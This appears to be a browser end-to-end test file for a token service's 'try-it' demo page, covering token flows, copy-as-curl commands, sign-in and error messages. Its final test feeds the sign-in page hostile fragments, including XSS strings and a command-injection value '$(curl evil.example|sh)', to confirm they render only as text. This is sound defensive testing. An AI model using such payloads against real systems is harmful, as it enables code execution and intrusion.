import { describe, expect, it } from 'vitest';
import { runScript } from '../../../../test/support/processes.js';
import { read, temporaryFolder } from '../../../../test/support/project-files.js';
import { clickIn, customerIn, recordRequests, tryItSite } from '../support/try-it-page.js';

// cspell:ignore fulfill Cimg Cscript Ealert Fscript
const site = tryItSite();
/** The working folder of the copied commands. */
const folder = temporaryFolder('try-it-curl');
/** The sentence of `errorText`. */
const [, BLOCKED] = /cookies_blocked: '(.+)'/.exec(read('packages/browser-client/src/error-text.ts')) ?? [];

describe('the try-it page in a real browser', () => {
  it('shows a new customer, who is the same after a reload and another one after forgetting', async () => {
    const page = await site.current.open();
    const created = await clickIn(page, 'new', 'Get a token');
    expect(created).toContain('is now customer');
    const customer = customerIn(created);
    expect(await page.locator('#identity').innerText()).toContain(customer);
    expect(await clickIn(page, 'returning', 'Ask again')).toContain(`The same customer, ${customer}`);
    await page.reload();
    await expect.poll(() => page.locator('#identity').innerText()).toContain(`was customer ${customer} before`);
    expect(await clickIn(page, 'new', 'Get a token')).toContain(`It is still customer ${customer}`);
    expect(await clickIn(page, 'forget', 'Forget this browser')).toContain('has forgotten this browser');
    expect(await page.context().cookies()).toEqual([]);
    expect(customerIn(await clickIn(page, 'new', 'Get a token'))).not.toBe(customer);
  });

  it('shows the real request and response, shortens tokens only, and copies the whole request', async () => {
    const page = await site.current.open('/try', { permissions: ['clipboard-read', 'clipboard-write'] });
    await clickIn(page, 'new', 'Get a token');
    const wire = page.locator('#new-wire');
    const text = await wire.innerText();
    expect(text).toMatch(/POST \/v2\/customer\/token\s+Content-Type: application\/json\s+\{\s+"grant_type": "cookie"/);
    expect(text).toMatch(/HTTP\/1\.1 200[\s\S]*"access_token": "dev:[\w-]+…[\w-]+"/);
    await clickIn(page, 'decode', 'Decode the token');
    await page.locator('#decode-wire').getByRole('button', { name: 'Copy as curl' }).click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    const [, token = ''] = /Bearer ([^']+)'/.exec(await page.evaluate('navigator.clipboard.readText()')) ?? [];
    const info = await site.current.service.send('GET', '/v2/customer/info', { authorization: `Bearer ${token}` });
    expect(info.status).toBe(200);
  });

  it.each(['/try', '/try/second-browser', '/try/signed-in#access_token=dev%3Ax.e30.x&state=own'])(
    'says with a sentence that the browser blocks the cookies of %s',
    async (path) => {
      const page = await site.current.open();
      await page.addInitScript(`for (const name of ['localStorage', 'sessionStorage'])
        Object.defineProperty(window, name, { get() { throw new DOMException('Access is denied', 'SecurityError'); } });
        if (navigator.locks) navigator.locks.request = () => { throw new DOMException('Access is denied', 'SecurityError'); };`);
      await page.goto('about:blank');
      await page.goto(site.current.url + path);
      const notice = page.getByRole('alert');
      await notice.waitFor();
      expect(await notice.innerText()).toBe(BLOCKED);
      if (path !== '/try') return;
      for (const [step, button] of Object.entries({ new: 'Get a token', user: 'Sign in as user-4711' }))
        expect(await clickIn(page, step, button)).toBe(BLOCKED);
    },
  );

  it('sends one request for three parallel calls of the token helper', async () => {
    const page = await site.current.open();
    const sent = recordRequests(page);
    expect(await clickIn(page, 'returning', 'Ask three times at once')).toContain('The helper sent 1 request.');
    expect(sent).toEqual(['POST /v2/customer/token']);
    await page.getByText('Source of the token helper').click();
    expect(await page.locator('#helper-source pre').innerText()).toContain('export class TokenHelper');
  });

  it('shows another customer in a group, and the claims of a token with their meaning', async () => {
    const page = await site.current.open();
    const customer = customerIn(await clickIn(page, 'new', 'Get a token'));
    const inGroup = await clickIn(page, 'group', 'Get a token for the group support');
    expect(customerIn(inGroup)).not.toBe(customer);
    expect(inGroup).toContain(`Outside it is ${customer}`);
    await clickIn(page, 'decode', 'Decode the token');
    const claims = await page.locator('#decode-claims').innerText();
    expect(claims).toMatch(new RegExp(`sub\\s+${customer}`));
    expect(claims).toMatch(/gty\s+cookie\s+the grant that issued the token/);
  });

  it('copies commands that keep a customer of their own, and none for a proof that works once', async () => {
    const page = await site.current.open('/try', { permissions: ['clipboard-read', 'clipboard-write'] });
    const outputOfCopy = async (step: string) => {
      await page.locator(`#${step}-wire`).getByRole('button', { name: 'Copy as curl' }).last().click();
      await page.locator(`#${step}-wire`).getByRole('button', { name: 'Copied' }).waitFor();
      const command = `${await page.evaluate('navigator.clipboard.readText()')}`;
      return runScript(command, { cwd: folder });
    };
    await clickIn(page, 'new', 'Get a token');
    const created = customerIn(await outputOfCopy('new'));
    await clickIn(page, 'returning', 'Ask again');
    expect(await outputOfCopy('returning')).toContain(created);
    await clickIn(page, 'forget', 'Forget this browser');
    await outputOfCopy('forget');
    await clickIn(page, 'new', 'Get a token');
    expect(await outputOfCopy('new')).not.toContain(created);
    const inBackend = await clickIn(page, 'backend', 'Get a token in the backend');
    expect(await outputOfCopy('backend')).toContain(customerIn(inBackend));
    await clickIn(page, 'user', 'Sign in as user-4711');
    expect(await page.locator('#user-wire').innerText()).toContain('works once');
  });

  it('signs in as a user of the shop, and out again', async () => {
    const page = await site.current.open();
    const visitor = customerIn(await clickIn(page, 'new', 'Get a token'));
    const user = customerIn(await clickIn(page, 'user', 'Sign in as user-4711'));
    await page.reload();
    expect(customerIn(await clickIn(page, 'returning', 'Ask again'))).toBe(user);
    expect(customerIn(await clickIn(page, 'backend', 'Get a token in the backend'))).toBe(user);
    expect(await clickIn(page, 'user', 'Sign out')).toContain('Signed out');
    const next = customerIn(await clickIn(page, 'new', 'Get a token'));
    expect([visitor, user]).not.toContain(next);
    expect(customerIn(await clickIn(page, 'user', 'Sign in as user-4711'))).toBe(user);
  });

  it('uses the token of the user in another tab whose token belongs to the visitor before', async () => {
    await clickIn(await site.current.open(), 'user', 'Sign in as user-4711'); // the user has a customer now
    const tab = await site.current.open();
    const visitor = customerIn(await clickIn(tab, 'new', 'Get a token'));
    const other = await tab.context().newPage();
    await other.goto(tab.url());
    const user = customerIn(await clickIn(other, 'user', 'Sign in as user-4711'));
    expect(user).not.toBe(visitor);
    await expect.poll(() => tab.locator('#identity').innerText()).toBe('This browser has no token.');
    await clickIn(tab, 'decode', 'Decode the token');
    expect(await tab.locator('#decode-claims').innerText()).toContain(user);
  });

  it('shows the three flows, and marks the current step and its flow', async () => {
    const page = await site.current.open();
    const marked = () => page.locator('.flow.current a[aria-current=step]').allInnerTexts();
    await expect.poll(marked).toEqual(['1']);
    await clickIn(page, 'backend', 'Get a token in the backend');
    expect(await marked()).toEqual(['6']);
    expect(await page.locator('.flow.current').count()).toBe(1);
    for (const link of await page.locator('.flow a').all()) {
      const number = await link.innerText();
      const heading = page.locator((await link.getAttribute('href')) as string);
      const region = page.locator(`[aria-label$=" of step ${number}"]`);
      expect(await page.locator('.step', { has: heading }).filter({ has: region }).count()).toBe(1);
    }
  });

  it('ends a token and all sessions, and shows that the service rejects the token afterwards', async () => {
    const page = await site.current.open();
    for (const button of ['End this token', 'End all sessions']) {
      expect(await clickIn(page, 'end', button)).toContain('responds to it with 401');
      expect(await page.locator('#end-wire').innerText()).toMatch(/HTTP\/1\.1 200[\s\S]*HTTP\/1\.1 401/);
    }
    expect(await clickIn(page, 'returning', 'Ask again')).toContain('The same customer,');
  });

  it('says what to do if the service does not respond, has too many requests, or is at another origin', async () => {
    const page = await site.current.open();
    let retryAfter: string | undefined;
    await page.route('**/v2/customer/token', (route) =>
      retryAfter === undefined
        ? route.abort()
        : route.fulfill({
            status: 429,
            headers: { 'Retry-After': retryAfter },
            json: { error: 'temporarily_unavailable' },
          }),
    );
    expect(await clickIn(page, 'new', 'Get a token')).toBe('The service did not respond. Is it still running?');
    site.current.problems.splice(0); // the browser logs the connection that the test has cut
    for (const [seconds, text] of Object.entries({ 7: '7 seconds.', 1: '1 second.' })) {
      retryAfter = seconds;
      expect(await clickIn(page, 'new', 'Get a token')).toContain(`Try again in ${text}`);
    }
    await page.goto(`${site.current.url.replace('localhost', '127.0.0.1')}/try`);
    expect(await page.locator('#other-origin').innerText()).toContain(`works at ${site.current.url}/try only`);
    site.current.problems.splice(0); // the other origin is intended here
  });
});

describe('the end of an agent sign-in at the demo', () => {
  it('is a page that shows the token and its use, and removes it from the address bar', async () => {
    const page = await site.current.open();
    await page.getByRole('link', { name: 'Sign in as the agent' }).click();
    await page.getByLabel('Email').fill(site.current.agent.email);
    await page.getByLabel('Password').fill(site.current.agent.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'You are signed in' }).waitFor();
    expect(page.url()).toBe(`${site.current.url}/try/signed-in`);
    const token = await page.locator('#token').innerText();
    const body = { grant_type: 'agent_token', client_id: '9cbf3a968289727cb3cdfe83ab1d9836', response_type: 'token' };
    expect(await page.locator('#command').innerText()).toContain(JSON.stringify(body).slice(0, -1));
    const headers = { authorization: `Bearer ${token}` };
    expect((await site.current.service.post('/v2/customer/token', body, headers)).status).toBe(200);
    expect(await page.locator('#claims').innerText()).toMatch(/aud\s+agent-api/);
  });

  it('is a page that shows the code for a backend and the state, and removes both from the address bar', async () => {
    const page = await site.current.open();
    await page.goto(`${site.current.url}/try/signed-in?code=dev%3A%3Cimg%20src%3Dx%3E&state=own&iss=x`);
    await page.getByRole('heading', { name: 'You are signed in' }).waitFor();
    expect(await page.locator('#code').innerText()).toBe('dev:<img src=x>');
    expect(await page.locator('#code-state').innerText()).toBe('own');
    expect(await page.locator('#token').isVisible()).toBe(false);
    expect(page.url()).toBe(`${site.current.url}/try/signed-in`);
  });

  const RESPONSES = [
    ['', 'No response of a sign-in'],
    ['?error=access_denied&error_description=%3Cimg%20src%3Dx%3E', 'The sign-in ended without a token'],
    ['#error=access_denied&error_description=%3Cimg%20src%3Dx%3E', 'The sign-in ended without a token'],
    ['#access_token=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Not a token'],
    ['#access_token=x.e30.$(curl%20evil.example|sh)&state=own', 'Not a token'],
    ['#access_token=dev%3Ax.e30.x$(id)&state=own', 'Not a token'],
    ['#access_token=dev%3Ax.e30.x', 'Not a response to this browser'],
    [
      `#access_token=dev%3Ax.${Buffer.from('{"sub":"<img src=x>"}').toString('base64url')}.x&state=own`,
      'You are signed in',
    ],
    [
      `#access_token=dev%3Ax.${Buffer.from('{}').toString('base64url')}.x&state=other`,
      'Not a response to this browser',
    ],
  ];
  it('says what happened, and shows the parameters only as text', async () => {
    const page = await site.current.open();
    for (const [fragment, title] of RESPONSES) {
      await page.evaluate("sessionStorage.setItem('try-it state', 'own')");
      await page.goto('about:blank'); // a URL that differs in its fragment only would not load the page again
      await page.goto(`${site.current.url}/try/signed-in${fragment}`);
      const shown = await page.getByRole('heading', { level: 1 }).innerText();
      expect({ fragment, shown }).toEqual({ fragment, shown: title });
      expect(await page.locator('img, #content script').count()).toBe(0);
      expect(page.url()).toBe(`${site.current.url}/try/signed-in`);
    }
  });
});
